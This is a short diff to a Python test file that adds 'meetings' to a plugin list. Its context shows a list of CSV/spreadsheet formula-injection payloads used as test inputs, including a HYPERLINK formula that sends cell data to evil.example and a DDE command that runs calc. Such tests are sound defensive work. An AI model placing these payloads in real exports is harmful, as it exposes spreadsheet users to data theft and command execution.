@@ -22,7 +22,7 @@ from tests.conftest import sign_in
 
 HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
-ALL_PLUGINS = ["directory", "handbook", "surveys", "bulletins"]
+ALL_PLUGINS = ["directory", "handbook", "surveys", "bulletins", "meetings"]
 
 
 @pytest.fixture
